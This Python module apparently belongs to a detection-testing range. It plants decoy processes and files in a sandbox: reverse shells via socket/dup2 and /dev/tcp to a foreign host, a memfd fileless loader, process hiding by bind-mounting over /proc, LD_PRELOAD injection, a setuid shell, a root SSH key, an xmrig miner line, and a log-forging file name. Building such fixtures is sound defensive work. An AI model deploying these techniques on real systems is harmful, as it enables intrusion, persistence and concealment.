"""Decoys: real processes and files that look like what the rules are after.

Each function plants one in a box and returns its pid.
"""

import os
import sys

from range_box import Box, program
from range_foreign import ADDRESS, POOL_PORT, PORT

LOOPBACK_PORT = 5151
BUSY = "while :; do :; done"
MINING = ("xmrig", "-o", "stratum+tcp://pool.example:443", "-u", "wallet")
KERNEL_NAME = "[kworker/0:9]"
HOSTILE = "/tmp/\x1b[2Jx\nfinding\tHOST-EXE-001\t|\\\u202e\u00e9"
FOREVER = "100000"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + "A" * 42 + " who@where"

_CONNECT = """
import os, socket, sys
address, port, ends, *argv = sys.argv[1:]
line = socket.create_connection((address, int(port)))
for end in ends:
    os.dup2(line.fileno(), int(end))
os.execv(argv[0], argv)
"""
_LISTEN = """
import os, socket, sys
port, *argv = sys.argv[1:]
line = socket.create_server(("", int(port)))
os.set_inheritable(line.fileno(), True)
os.execv(argv[0], argv)
"""
_ANSWER = """
import socket, sys
kept = []
with socket.create_server(("127.0.0.1", int(sys.argv[1]))) as line:
    print("ready", flush=True)
    while True:
        kept.append(line.accept())
"""
MEMFD = """
import os, sys
program, name, *argv = sys.argv[1:]
memory = os.memfd_create(name, 0)
with open(program, "rb") as source:
    os.write(memory, source.read())
os.execve(f"/proc/self/fd/{memory}", argv, {})
"""


def busy(box: Box, path: str, *arguments: str) -> int:
    """A program at `path` that never sleeps, and gives way to everything else."""
    return box.plant(box.copy("dash", path), "-c", BUSY, *arguments, idle=True)


def asleep(box: Box, path: str, argv0: str = "") -> int:
    """A program at `path` that does nothing."""
    return box.plant(box.copy("sleep", path), FOREVER, argv0=argv0)


def deleted_busy(box: Box, path: str = "/tmp/.x/m") -> int:
    """A miner that removed its own file."""
    pid = busy(box, path)
    box.path(path).unlink()
    return pid


def deleted_asleep(box: Box) -> int:
    """The same, waiting."""
    pid = asleep(box, "/dev/shm/agent")
    box.path("/dev/shm/agent").unlink()
    return pid


def merely_named(box: Box) -> int:
    """A file that is called as the kernel calls a deleted one."""
    return asleep(box, "/tmp/x (deleted)")


def kernel_thread(box: Box) -> int:
    """A program in scratch that goes by the name of a kernel thread."""
    return asleep(box, "/tmp/.k/w", argv0=KERNEL_NAME)


def kernel_thread_memfd(box: Box) -> int:
    """The same from memory."""
    return memfd(box, "k", argv0=KERNEL_NAME)


def kernel_thread_system(box: Box) -> int:
    """The name of a kernel thread on a program of the system."""
    return box.plant(program("sleep"), FOREVER, argv0=KERNEL_NAME)


def hostile_name(box: Box) -> int:
    """A kernel thread's name on a program whose path tries to forge a record."""
    return asleep(box, HOSTILE, argv0=KERNEL_NAME)


def memfd(box: Box, name: str = "payload", argv0: str = "payload") -> int:
    """A program that runs from memory."""
    words = ("-c", MEMFD, program("sleep"), name, argv0, FOREVER)
    return box.plant(sys.executable, *words, becomes=f"/memfd:{name} (deleted)")


def hidden(box: Box) -> int:
    """A process with a folder mounted over its own in /proc."""
    pid = asleep(box, "/tmp/.h/hidden")
    box.shell('mkdir -p /tmp/empty; mount --bind /tmp/empty "/proc/$1"', str(pid))
    return pid


def reverse_shell(box: Box) -> int:
    """The system's shell on a connection to another machine."""
    return _connected(box, program("dash"), ADDRESS, PORT, "012")


def reverse_shell_copy(box: Box) -> int:
    """A copy of the shell on such a connection."""
    return _connected(box, box.copy("dash", "/tmp/.r/dash"), ADDRESS, PORT, "012")


def silent_port(box: Box, port: int) -> None:
    """Something on loopback that takes connections and never speaks."""
    answering = box.start(sys.executable, "-c", _ANSWER, str(port))
    assert answering.stdout
    assert answering.stdout.readline() == b"ready\n"


def loopback_shell(box: Box) -> int:
    """A shell on a connection to this machine itself."""
    silent_port(box, LOOPBACK_PORT)
    return _connected(box, program("dash"), "127.0.0.1", LOOPBACK_PORT, "012")


def inetd_shell(box: Box) -> int:
    """A shell to which an inetd at a system path gave its connection."""
    server = box.copy("bash", "/usr/sbin/xinetd")
    serve = f"exec 5<>/dev/tcp/{ADDRESS}/{PORT}; dash <&5 >&5 2>&5 & echo $! >/run/served; wait"
    box.plant(server, "-c", serve)
    return box.child("/run/served", program("dash"))


def _connected(box: Box, runs: str, address: str, port: int, ends: str) -> int:
    words = ("-c", _CONNECT, address, str(port), ends, runs)
    last = () if runs.endswith("dash") else (FOREVER,)
    return box.plant(sys.executable, *words, *last, becomes=runs)


def pool_connection(box: Box) -> int:
    """An ordinary program connected to a port that pools use."""
    return _connected(box, box.copy("sleep", "/opt/tool/client"), ADDRESS, POOL_PORT, "5")


def listener(box: Box) -> int:
    """A program in scratch that waits for connections."""
    copied = box.copy("sleep", "/tmp/.b/back")
    words = ("-c", _LISTEN, "31337", copied, FOREVER)
    return box.plant(sys.executable, *words, becomes=copied)


def preloaded(box: Box) -> int:
    """A program that was told to load a library from scratch."""
    copied = box.copy("sleep", "/opt/tool/preloaded")
    return box.plant(program("env"), "LD_PRELOAD=/tmp/x.so", copied, FOREVER, becomes=copied)


def miner(box: Box) -> int:
    """A miner's arguments."""
    os.mkfifo(box.path("/run/never"))
    waiting = ("-c", "read _ <>/run/never")
    return box.plant(box.copy("dash", "/opt/tool/worker"), *waiting, *MINING)


def busy_in_scratch(box: Box) -> int:
    """A miner that kept its file."""
    return busy(box, "/var/tmp/.c/m")


def deleted_elsewhere(box: Box) -> int:
    """Something busy off scratch that removed its file."""
    return deleted_busy(box, "/opt/.q/m")


def deleted_miner(box: Box) -> int:
    """The same with a miner's arguments."""
    pid = busy(box, "/opt/.w/m", *MINING)
    box.path("/opt/.w/m").unlink()
    return pid


def replaced_in_scratch(box: Box) -> int:
    """A miner that put an empty file in the place of its own."""
    pid = deleted_busy(box, "/tmp/.e/m")
    box.path("/tmp/.e/m").touch()
    return pid


def replaced_elsewhere(box: Box) -> int:
    """The same where no package puts anything."""
    pid = deleted_busy(box, "/opt/.e/m")
    box.path("/opt/.e/m").touch()
    return pid


def files(box: Box) -> None:
    """A setuid copy of a shell, a program among the devices, and a new key."""
    box.copy("dash", "/tmp/.s/sh", 0o4755)
    box.copy("sleep", "/dev/shm/program")
    box.write("/root/.ssh/authorized_keys", f"{KEY}\n")


PLANTS = {
    plant.__name__: plant
    for plant in (
        deleted_busy,
        deleted_asleep,
        deleted_elsewhere,
        deleted_miner,
        merely_named,
        kernel_thread,
        kernel_thread_memfd,
        kernel_thread_system,
        hostile_name,
        memfd,
        hidden,
        reverse_shell,
        reverse_shell_copy,
        loopback_shell,
        inetd_shell,
        pool_connection,
        listener,
        preloaded,
        miner,
        busy_in_scratch,
        replaced_in_scratch,
        replaced_elsewhere,
    )
}
